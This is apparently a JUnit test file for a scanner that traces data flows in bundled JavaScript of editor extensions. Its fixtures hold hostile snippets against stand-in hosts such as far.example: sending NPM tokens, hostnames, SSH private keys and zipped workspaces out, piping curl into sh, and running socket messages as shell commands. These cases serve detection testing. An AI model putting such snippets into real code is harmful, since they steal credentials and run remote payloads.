package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Clients of the network in a bundle are known by names that no minifier changes, and are what they are when required. */
class BundledLibrariesTest {

    private static final String WEB_SOCKET = """
            class w extends Array {
              constructor(t) { super(); this._readyState = 0; this._closeFrameReceived = !1; this._closeFrameSent = !1;
                this._closeMessage = Buffer.alloc(0); this._receiver = null; this._sender = null; this.q = new Socket9(t); }
              get readyState() { return this._readyState; }
              setSocket(t, e, i) { const s = new R(i); this._sender = new S(t); this._receiver = s; this._readyState = w.OPEN; }
              send(t) { if (this.readyState === w.CONNECTING) throw new Error('not open'); this._sender.queue(t); }
              terminate() { if (this.readyState !== w.CLOSED) this._readyState = w.CLOSING; }
            }
            w.CONNECTING = 0; w.OPEN = 1; w.CLOSING = 2; w.CLOSED = 3;
            """;

    private static final String AXIOS = """
            class a {
              constructor(t) { this.defaults = t || {}; this.interceptors = { request: [], response: [] }; }
              async request(t, e) { return await this._request(t, e); }
              _request(t, e) { const { transitional: n } = t; if (n) check(n, { silentJSONParsing: 1, clarifyTimeoutError: 1 });
                return this.interceptors.request.reduce((p, f) => p.then(f), unknownAdapter(t)); }
              getUri(t) { return build(t.url, t.params); }
            }
            ['post', 'put'].forEach(m => { a.prototype[m] = function(url, data, config) {
              return this.request(Object.assign({}, config, { method: m, url, data })); }; });
            """;

    @Test
    void whatGoesThroughASocketIsSent() {
        Analysis analysis = Analysis.of(WEB_SOCKET + """
                const socket = new w('wss://far.example/in');
                if (socket.readyState === w.OPEN) socket.send(require('os').hostname());
                socket.on('message', text => require('child_process').exec(String(text)));
                """);

        assertThat(analysis.flows("account-identity", "network-send")).isNotEmpty();
        assertThat(analysis.flows("network-response", "process-command")).isNotEmpty();
    }

    @Test
    void aDerivedSocketIsOneToo() {
        Analysis analysis = Analysis.of(WEB_SOCKET + """
                class Mine extends w { report() { this.send(process.env.NPM_TOKEN); } }
                new Mine('wss://far.example/in').report();
                """);

        assertThat(analysis.flows("environment-secret", "network-send")).isNotEmpty();
    }

    @Test
    void aClientKeepsTheAddressItWasMadeFor() {
        Analysis analysis = Analysis.of(AXIOS + """
                const client = new a({ baseURL: 'https://base.example' });
                client.post('/v1', { key: process.env.NPM_TOKEN });
                """);

        assertThat(analysis.flows("environment-secret", "network-send"))
                .anySatisfy(flow -> assertThat(flow.destinations()).contains("https://base.example"));
    }

    @Test
    void whatWasAddedToALibraryRunsAllTheSame() {
        Analysis analysis = Analysis.of(WEB_SOCKET.replace(
                        "this.q = new Socket9(t);", "require('child_process').exec('curl https://far.example/a | sh');")
                + "new w('wss://near.example');");

        assertThat(analysis.callsOf("process-command")).isNotEmpty();
    }

    @Test
    void aClassWithSomeOfTheNamesIsNone() {
        Analysis analysis = Analysis.of(WEB_SOCKET.replace("_closeFrameSent", "_sentClose")
                + "new w('wss://far.example/in').send(require('os').hostname());");

        assertThat(analysis.flows("account-identity", "network-send")).isEmpty();
    }

    /** Its code says less than its name, and is followed all the same. */
    @Test
    void aClientThatIsRequiredIsWhatItsNameSays() {
        Analysis analysis = Analysis.of(Map.of(
                "extension.js",
                "require('axios').post('https://far.example/in', { key: process.env.NPM_TOKEN });",
                "node_modules/axios/index.js",
                "module.exports = { post: (url, data) => hidden(url, data) }; require('child_process').exec('id');"));

        assertThat(analysis.destinations("environment-secret", "network-send")).contains("https://far.example/in");
        assertThat(analysis.callsOf("process-command")).isNotEmpty();
    }

    @Test
    void aScriptThatIsForkedRunsAsTheForkDoes() {
        Analysis analysis = Analysis.of(Map.of(
                "extension.js",
                "require('child_process').fork(require('path').join(__dirname, 'node_modules/kit/build.js'));",
                "node_modules/kit/build.js",
                "fetch('https://far.example/in', { method: 'POST', body: process.env.NPM_TOKEN });"));

        assertThat(analysis.triggers("environment-secret", "network-send")).containsExactly(Trigger.STARTUP);
    }

    @Test
    void aClientOfACompanyGoesThereUnlessToldOtherwise() {
        String ask = "client.chat.completions.create({ messages: [{ content: process.env.NPM_TOKEN }] });";
        Analysis home =
                Analysis.of("const OpenAI = require('openai'); const client = new OpenAI({ apiKey: 'k' });" + ask);
        Analysis told = Analysis.of(
                "const OpenAI = require('openai'); const client = new OpenAI({ baseURL: 'https://far.example/v1' });"
                        + ask);

        assertThat(home.destinations("environment-secret", "network-send")).containsExactly("https://api.openai.com");
        assertThat(told.destinations("environment-secret", "network-send")).containsExactly("https://far.example/v1");
    }

    /** As a program that hides its names writes a class: its members come out of a table, and there is no class at all. */
    @Test
    void aSocketIsKnownByItsMembersWhereItsNamesAreHidden() {
        Analysis analysis = Analysis.of("""
                const n = i => Buffer.from(['c2V0U29ja2V0', 'ZW1pdENsb3Nl', 'dGVybWluYXRl', 'cGluZw==', 'cG9uZw=='][i], 'base64').toString();
                function S(u) { this.u = u; }
                for (let i = 0; i < 5; i++) S.prototype[n(i)] = function () { return this.u; };
                const socket = new S('wss://far.example/in');
                socket.on('message', text => require('child_process').exec(String(text)));
                """);

        assertThat(analysis.flows("network-response", "process-command")).isNotEmpty();
    }

    @Test
    void aClassThatExtendsOneKnownByItsMembersKeepsItsOwn() {
        Analysis analysis = Analysis.of("""
                class s { setSocket() {} emitClose() {} terminate() {} ping() {} pong() {} }
                class Mine extends s { report() { this.send(process.env.NPM_TOKEN); } }
                new Mine('wss://far.example/in').report();
                """);

        assertThat(analysis.flows("environment-secret", "network-send")).isNotEmpty();
        assertThat(analysis.destinations("environment-secret", "network-send")).containsExactly("wss://far.example/in");
    }

    @Test
    void aClientIsKnownByWhatItExportsAndItsOwnCodeRunsBesides() {
        Analysis analysis = Analysis.of("""
                const fs = require('fs');
                const client = (url, options) => { fs.writeFileSync('/tmp/trace', options.json); return deliver(url, options); };
                client.extend = () => client; client.paginate = () => {}; client.stream = () => {};
                client.mergeOptions = (a, b) => ({ ...a, ...b });
                client.post = (url, options) => client(url, { ...options, method: 'post' });
                client.post('https://far.example/in', { json: require('os').hostname() });
                """);

        assertThat(analysis.flows("account-identity", "network-send")).isNotEmpty();
        assertThat(analysis.destinations("account-identity", "network-send")).contains("https://far.example/in");
        assertThat(analysis.flows("account-identity", "file-write")).isNotEmpty();
    }

    @Test
    void anObjectWithSomeOfTheMembersIsNone() {
        Analysis analysis = Analysis.of("""
                const client = (url, options) => url + options.json;
                client.extend = () => client; client.stream = () => {};
                client.post = (url, options) => client(url, options);
                client.post('https://far.example/in', { json: require('os').hostname() });
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }

    @Test
    void aSchemaFromTheNetworkIsNoCodeFromThere() {
        Analysis analysis = Analysis.of("""
                class n {
                  constructor(t) { this.opts = t; }
                  compile(t) { return this._compile(this._addSchema(t)); }
                  _compile(t) { return new Function('self', 'return function(data){return ' + JSON.stringify(t.type) + '===typeof data}')(this); }
                  _addSchema(t) { return { type: t.type }; }
                  addMetaSchema(t) { return this; }
                  errorsText(t) { return t.join(); }
                  validateSchema(t) { return true; }
                  removeSchema(t) { return this; }
                }
                exports.activate = async () => {
                  const answer = await fetch('https://tools.example/schema');
                  new n({}).compile(await answer.json());
                };
                """);

        assertThat(analysis.flows("network-response", "code-eval")).isEmpty();
    }

    private static final String TUNNELS = """
            class T {
              constructor() { this.config = {}; }
              connect(given) { this.config.user = given.username; /* added */ return this; }
              forwardOut() {} openssh_forwardOutStreamLocal() {} subsys() {} sftp() {}
            }
            const tunnel = new T();
            tunnel.connect({
              host: '10.0.0.7', privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });
            """;

    @Test
    void whatWasAddedToAClassKnownByItsMembersIsGivenTheKeysOfItsCalls() {
        Analysis analysis = Analysis.of(TUNNELS.replace("/* added */", """
                fetch('https://far.example/k', { method: 'POST', body: JSON.stringify(Object.entries(given)) });
                """));

        assertThat(analysis.destinations("ssh-credentials", "network-send")).contains("https://far.example/k");
    }

    @Test
    void aClassKnownByItsMembersSendsNothingElse() {
        assertThat(Analysis.of(TUNNELS).flows("ssh-credentials", "network-send"))
                .isEmpty();
    }

    @Test
    void aModuleAskedForWhereThatIsNotKnownIsTheSameWhenAskedForAgain() {
        Analysis analysis = Analysis.of("""
                var wrapped = (run, module) => function load() {
                  return module || (0, run[Object.keys(run)[0]])((module = { exports: {} }).exports, module), module.exports;
                };
                var first = wrapped({ 'first.js'(exports, module) { module.exports = text => text.length; } });
                var client = wrapped({ 'client.js'(exports, module) {
                  module.exports = text => fetch('https://client.example/', { method: 'POST', body: text });
                } });
                if (Math.random() > 0.5) { first(); client(); }
                if (typeof client() === 'function') client()(require('os').hostname()); else client().missing('arch');
                """);

        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
        assertThat(analysis.calls())
                .filteredOn(call -> call.api().equals("global.fetch"))
                .hasSize(1);
    }

    @Test
    void amongManyModulesEachGivesItsOwnExportsWhereItIsAskedForAgain() {
        StringBuilder modules = new StringBuilder();
        for (int i = 0; i < 80; i++) {
            modules.append(
                    "var m%d = wrapped({ 'm%d.js'(exports, module) { module.exports = t => `%d` + t; } }); m%d();\n"
                            .formatted(i, i, i, i));
        }
        Analysis analysis = Analysis.of("""
                var wrapped = (run, module) => function load() {
                  return module || (0, run[Object.keys(run)[0]])((module = { exports: {} }).exports, module), module.exports;
                };
                %s
                setTimeout(() => { if (Math.random() > 0.5) fetch('https://client.example/' + m7()('seven')); }, 10);
                """.formatted(modules));

        assertThat(analysis.calls())
                .filteredOn(call -> call.api().equals("global.fetch"))
                .singleElement()
                .satisfies(call ->
                        assertThat(call.arguments().get(0).texts()).containsExactly("https://client.example/7seven"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "if (process.env.NODE_ENV === 'production') { module.exports = inUse(); } else { module.exports = developed(); }",
                "process.env.NODE_ENV !== 'production' ? module.exports = developed() : module.exports = inUse();",
            })
    void ofTwoBuildsOfALibraryTheOneIsTakenThatTheEditorLoads(String choice) {
        Analysis analysis = Analysis.of("""
                var wrapped = (run, module) => () => (module || run((module = { exports: {} }).exports, module), module.exports);
                var inUse = wrapped((exports, module) => { exports.tell = text => text.warn(); });
                var developed = wrapped((exports, module) => { exports.tell = text => fetch('https://use.example/', { method: 'POST', body: text }); });
                var library = wrapped((exports, module) => { %s });
                const { tell } = library();
                tell(require('os').hostname());
                """.formatted(choice));

        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
    }

    @Test
    void whatADecisionOnTheBuildDoesBesideIsRunBothWays() {
        Analysis analysis = Analysis.of("""
                if (process.env.NODE_ENV === 'production') module.exports = {};
                else { fetch('https://other.example/', { method: 'POST', body: require('os').hostname() }); module.exports = {}; }
                """);

        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
    }

    @Test
    void theNamesOfOneOfTwoObjectsAreThoseOfBoth() {
        Analysis analysis = Analysis.of("""
                const one = { tell: text => fetch('https://one.example/', { method: 'POST', body: text }) }, other = { keep: text => text };
                const chosen = Math.random() > 0.5 ? one : other, copy = {};
                for (const name of Object.getOwnPropertyNames(chosen)) Object.defineProperty(copy, name, { get: () => chosen[name] });
                copy.tell(require('os').hostname());
                """);

        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
    }

    @Test
    void aRevocableProxyIsAProxy() {
        Analysis analysis = Analysis.of("""
                const { proxy } = Proxy.revocable({}, { set(target, key, value) { fetch('https://set.example/', { method: 'POST', body: value }); return true; } });
                proxy.host = require('os').hostname();
                """);

        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
    }

    @Test
    void anArchiveThatTheBundleMakesHoldsTheFilesThatItWasGiven() {
        Analysis analysis = Analysis.of("""
                const archive = () => { const entries = []; return {
                  addLocalFile(path) { entries.push(load(path)); }, addLocalFolder() {}, writeZip() {}, toBuffer() { return pack(entries); } }; };
                const zip = archive();
                zip.addLocalFile(require('os').homedir() + '/.ssh/id_rsa');
                fetch('https://zip.example/', { method: 'POST', body: zip.toBuffer() });
                """);

        assertThat(analysis.flows("ssh-credentials", "network-send")).isNotEmpty();
    }

    @Test
    void anArchiveSendsWhatItIsFilledWithAfterItWasConnected() {
        Analysis analysis = Analysis.of("""
                const vscode = require('vscode'), archive = require('archiver')('zip');
                archive.pipe(require('https').request('https://archive.example/', { method: 'POST' }));
                archive.directory(vscode.workspace.workspaceFolders[0].uri.fsPath, false);
                """);

        assertThat(analysis.flowNames()).contains("workspace-file -> network-send");
    }

    @Test
    void nothingOfAKnownLibraryIsTriedOutThatTheCatalogueDescribes() {
        Analysis analysis = Analysis.of("""
                const cp = require('child_process');
                const execa = (file, args, options) => cp.spawn(file, args, options);
                execa.sync = (file, args, options) => cp.spawnSync(file, args, options);
                execa.command = (line, options) => execa(line, [], options);
                execa.commandSync = (line, options) => execa.sync(line, [], options);
                execa.node = (file, args) => execa('node', [file, ...args]);
                execa('ls', ['-l']);
                """);

        assertThat(analysis.calls())
                .extracting(call -> call.api())
                .contains("node:child_process.spawn")
                .doesNotContain("node:child_process.spawnSync");
    }

    /** The server's own decoder calls the handler as well, with messages of which only the stream is known that they came by. */
    @Test
    void aServerOfALanguageIsToldWhatTheCatalogueSaysWhoeverCallsItsHandler() {
        Analysis analysis = Analysis.of("""
                const handlers = {};
                const connection = {
                  onInitialize: handler => { handlers.initialize = handler; },
                  onDidOpenTextDocument: handler => { handlers.open = handler; },
                  sendDiagnostics() {}, listen() {}
                };
                require('net').connect(4000, 'decoder.example').on('data', chunk => {
                  const message = JSON.parse(chunk);
                  if (message.method === 'initialize') handlers.initialize(message.params);
                  else handlers.open(message.params);
                });
                let lane;
                class Lane {
                  constructor(origin) { this.origin = origin; }
                  post(body) { return fetch(this.origin, { method: 'POST', body }); }
                }
                connection.onInitialize(params => {
                  const checker = params.initializationOptions?.checker;
                  if (checker) lane = new Lane(checker);
                });
                connection.onDidOpenTextDocument(({ textDocument }) => lane.post(textDocument.text));
                connection.listen();
                """);

        assertThat(analysis.flows("editor-document", "network-send"))
                .isNotEmpty()
                .allSatisfy(flow -> assertThat(flow.context().ways())
                        .allSatisfy(way -> assertThat(way.guards()).contains("own-endpoint")));
    }
}
